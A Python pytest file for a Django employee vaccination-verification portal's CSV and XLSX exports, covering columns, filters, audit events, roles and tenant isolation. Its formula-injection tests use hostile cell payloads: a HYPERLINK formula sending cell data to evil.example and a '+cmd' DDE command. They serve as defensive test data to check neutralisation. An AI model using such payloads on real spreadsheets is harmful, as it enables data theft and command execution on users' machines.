"""CSV and XLSX exports of the directory: content, filters, formula injection, audit, headers,
roles, two organizations, query counts."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django_tenants.utils import schema_context

from portal.testing import OrgFixture, data_queries, host_client, signed_in
from tenants.members import Role
from verification.employees.exports import CSV_CHUNK_BYTES, UTF8_BOM
from verification.employees.views.tests.helpers import staff_client
from verification.models import AuditEvent, Employee, Progress
from verification.tests.factories import EmployeeFactory, InvitationFactory

pytestmark = pytest.mark.django_db

CSV, XLSX = "/employees/export.csv", "/employees/export.xlsx"

HEADER = [
    "Code",
    "Name",
    "Email",
    "Mobile",
    "Department",
    "Location",
    "Active",
    "Progress",
    "Vaccination status",
    "Verified by",
    "Doses",
    "Vaccine",
    "Last dose",
    "Verified at (Asia/Kolkata)",
    "Invited at (Asia/Kolkata)",
]


def _content(response) -> bytes:  # type: ignore[no-untyped-def]
    return b"".join(response.streaming_content)


def _csv(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.streaming
    data = _content(response)
    assert data.startswith(UTF8_BOM)
    return list(csv.reader(io.StringIO(data[len(UTF8_BOM) :].decode())))


def _xlsx(response) -> list[list[object]]:  # type: ignore[no-untyped-def]
    workbook = openpyxl.load_workbook(io.BytesIO(_content(response)), read_only=True)
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def _people(org: OrgFixture) -> dict[str, Employee]:
    verified = EmployeeFactory.create(
        org=org, code="E1", full_name="Asha Rao", mobile="9000000001", department="Sales", location="Pune"
    )
    invited = EmployeeFactory.create(org=org, code="E2", full_name="Bina Das", department="Finance")
    inactive = EmployeeFactory.create(org=org, code="E3", full_name="Chetan Roy")
    with schema_context(org.schema_name):
        Employee.objects.filter(pk=verified.pk).update(
            progress=Progress.VERIFIED,
            vaccination_status=2,
            status_verified_at=datetime(2026, 3, 1, 6, 30, 15, 123456, tzinfo=UTC),
            # Verified with a certificate, which tells the doses, the vaccine and the date.
            status_method="certificate",
            status_dose=2,
            status_total_doses=2,
            status_vaccine="COVISHIELD",
            status_last_dose_on=date(2021, 8, 9),
        )
        with time_machine.travel(datetime(2026, 2, 1, 20, 0, tzinfo=UTC), tick=False):
            InvitationFactory.create(employee=invited)
        Employee.objects.filter(pk=inactive.pk).update(is_active=False)
    return {"E1": verified, "E2": invited, "E3": inactive}


# --- content -------------------------------------------------------------------------------


def test_csv_has_every_column_with_masked_mobile_and_local_times(org_a):
    _people(org_a)

    rows = _csv(signed_in(org_a).get(CSV))

    assert rows == [
        HEADER,
        ["E1", "Asha Rao", "e1@example.com", "••••••0001", "Sales", "Pune", "yes", "Verified",
         "Fully vaccinated", "Vaccination certificate", "2 / 2", "COVISHIELD", "2021-08-09",
         "2026-03-01 12:00:15", ""],
        ["E2", "Bina Das", "e2@example.com", "", "Finance", "", "yes", "Invited", "", "", "", "", "", "",
         "2026-02-02 01:30:00"],
        ["E3", "Chetan Roy", "e3@example.com", "", "", "", "no", "Not invited", "", "", "", "", "", "", ""],
    ]  # fmt: skip


def test_xlsx_opens_with_openpyxl_and_has_the_rows_with_naive_local_times(org_a):
    _people(org_a)

    response = signed_in(org_a).get(XLSX)

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = _xlsx(response)
    assert rows[0] == HEADER
    assert rows[1] == [
        "E1", "Asha Rao", "e1@example.com", "••••••0001", "Sales", "Pune", "yes", "Verified",
        "Fully vaccinated", "Vaccination certificate", "2 / 2", "COVISHIELD", "2021-08-09",
        datetime(2026, 3, 1, 12, 0, 15), None,
    ]  # fmt: skip
    assert rows[2][-1] == datetime(2026, 2, 2, 1, 30)
    assert rows[2][7] == "Invited"
    assert [row[0] for row in rows[1:]] == ["E1", "E2", "E3"]


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_exports_take_the_directorys_filters_and_order(org_a, url):
    _people(org_a)
    client = signed_in(org_a)
    read = _csv if url == CSV else _xlsx

    def codes(**params: str) -> list[object]:
        return [row[0] for row in read(client.get(url, params))[1:]]

    assert codes(active="yes") == ["E1", "E2"]
    assert codes(q="bina") == ["E2"]
    assert codes(status="2") == ["E1"]
    assert codes(department="Finance") == ["E2"]
    assert codes(progress="not_invited") == ["E3"]
    assert codes(sort="-code") == ["E3", "E2", "E1"]
    assert codes(q="nobody") == []


def test_a_large_csv_comes_in_several_chunks(org_a):
    with schema_context(org_a.schema_name):
        Employee.objects.bulk_create(
            Employee(code=f"C{i:05}", full_name=f"Person {i:05} " + "x" * 60, email=f"p{i}@example.com")
            for i in range(1500)
        )
    response = signed_in(org_a).get(CSV)
    chunks = list(response.streaming_content)  # type: ignore[attr-defined]
    assert len(chunks) > 2 and all(len(chunk) <= 2 * CSV_CHUNK_BYTES for chunk in chunks)
    rows = list(csv.reader(io.StringIO(b"".join(chunks)[3:].decode())))
    assert len(rows) == 1501 and rows[-1][0] == "C01499"


# --- formula injection ---------------------------------------------------------------------


def _hostile(org: OrgFixture) -> None:
    employee = EmployeeFactory.create(org=org, code="E1", full_name="placeholder")
    with schema_context(org.schema_name):
        Employee.objects.filter(pk=employee.pk).update(
            code="-1",
            full_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
            email="@evil.example",
            department="+cmd|' /C calc'!A0",
            location="\tPune",
        )


def test_csv_cells_that_would_be_formulas_are_neutralised(org_a):
    _hostile(org_a)
    row = _csv(signed_in(org_a).get(CSV))[1]
    assert row[:6] == [
        "'-1",
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'@evil.example",
        "",
        "'+cmd|' /C calc'!A0",
        "'\tPune",
    ]


def test_xlsx_writes_formula_looking_text_as_text_cells_without_an_apostrophe(org_a):
    # Excel never evaluates a text cell: the value itself is written, as text (the CSV,
    # which has no cell types, keeps the apostrophe: above).
    _hostile(org_a)
    response = signed_in(org_a).get(XLSX)
    data = _content(response)
    workbook = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: cell types are kept
    cells = next(workbook.active.iter_rows(min_row=2, max_row=2))
    assert [c.value for c in cells[:3]] == [
        "-1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "@evil.example",
    ]
    assert all(c.data_type == "s" for c in cells[:6] if c.value is not None)  # text, never a formula
    assert cells[4].value == "+cmd|' /C calc'!A0"
    assert cells[5].value == "\tPune"
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_xlsx_header_is_bold_and_frozen(org_a):
    _people(org_a)
    workbook = openpyxl.load_workbook(io.BytesIO(_content(signed_in(org_a).get(XLSX))))
    sheet = workbook.active
    assert sheet.title == "Employees"
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert not any(cell.font.b for cell in sheet[2])


# --- audit, headers ------------------------------------------------------------------------


@pytest.mark.parametrize(("url", "file_format"), [(CSV, "csv"), (XLSX, "xlsx")])
def test_each_export_writes_one_audit_event(org_a, url, file_format):
    _people(org_a)
    client = signed_in(org_a)

    response = client.get(url, {"active": "yes", "q": "a", "sort": "-code", "bogus": "1"})
    _content(response)

    with schema_context(org_a.schema_name):
        event = AuditEvent.objects.get(action="export.downloaded")
    assert event.actor_kind == "staff" and event.actor_label == org_a.owner_email
    assert event.actor_user_id is not None and event.employee_id is None
    assert event.ip_address == "127.0.0.1"
    assert event.data == {
        "format": file_format,
        "filters": {"sort": "-code", "search": "a", "active": True},
        "rows": 2,
    }
    assert abs((timezone.now() - event.at).total_seconds()) < 60


@pytest.mark.parametrize(("url", "extension"), [(CSV, "csv"), (XLSX, "xlsx")])
def test_exports_are_never_cached_and_are_named_for_the_organization_and_day(org_a, url, extension):
    response = signed_in(org_a).get(url)
    today = timezone.localdate()
    assert response.status_code == 200
    assert {"no-store", "private"} <= {d.strip() for d in response["Cache-Control"].split(",")}
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="alpha-employees-{today:%Y-%m-%d}.{extension}"'
    )


def test_empty_exports_have_the_header_only(org_a):
    client = signed_in(org_a)
    assert _csv(client.get(CSV)) == [HEADER]
    assert _xlsx(client.get(XLSX)) == [HEADER]


# --- query counts --------------------------------------------------------------------------


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_export_query_count_does_not_grow_with_rows(org_a, url):
    client = signed_in(org_a)

    def add(start: int, stop: int) -> None:
        for i in range(start, stop):
            employee = EmployeeFactory.create(org=org_a, code=f"E{i:03}", full_name=f"Person {i:03}")
            if i % 2:
                with schema_context(org_a.schema_name):
                    InvitationFactory.create(employee=employee)

    add(0, 3)
    _content(client.get(url))  # warm up
    with CaptureQueriesContext(connection) as few:
        _content(client.get(url))
    add(3, 40)
    with CaptureQueriesContext(connection) as many:
        _content(client.get(url))
    assert len(data_queries(many)) == len(data_queries(few)), data_queries(many)


# --- roles ---------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_hr_admin_may_export(org_a, url):
    assert staff_client(org_a, Role.HR_ADMIN).get(url).status_code == 200


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_viewer_may_not_export(org_a, url):
    _people(org_a)
    assert staff_client(org_a, Role.VIEWER).get(url).status_code == 403
    with schema_context(org_a.schema_name):
        assert not AuditEvent.objects.filter(action="export.downloaded").exists()


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_anonymous_users_are_sent_to_sign_in(org_a, url):
    response = host_client(org_a.host).get(url)
    assert response.status_code == 302 and response["Location"] == f"/accounts/login/?next={url}"


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_exports_need_get(org_a, url):
    assert signed_in(org_a).post(url).status_code == 405


# --- two organizations ---------------------------------------------------------------------


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_another_organizations_rows_never_appear(org_a, org_b, url):
    EmployeeFactory.create(org=org_a, code="A1", full_name="Alpha Person")
    EmployeeFactory.create(org=org_b, code="B1", full_name="Bravo Person")
    read = _csv if url == CSV else _xlsx

    rows = read(signed_in(org_a).get(url, {"q": "person"}))

    assert [row[0] for row in rows[1:]] == ["A1"]
    with schema_context(org_b.schema_name):
        assert not AuditEvent.objects.filter(action="export.downloaded").exists()
    with schema_context(org_a.schema_name):
        assert AuditEvent.objects.get(action="export.downloaded").data["rows"] == 1


def test_a_csv_read_later_still_comes_from_its_own_organization(org_a, org_b):
    """The COPY runs when the stream is first read: by then the connection may be on another
    schema (here, bravo's); the export still reads alpha's."""
    EmployeeFactory.create(org=org_a, code="A1", full_name="Alpha Person")
    EmployeeFactory.create(org=org_b, code="B1", full_name="Bravo Person")
    response = signed_in(org_a).get(CSV)

    with schema_context(org_b.schema_name):
        rows = _csv(response)
        assert connection.schema_name == org_b.schema_name  # type: ignore[attr-defined]

    assert [row[0] for row in rows[1:]] == ["A1"]
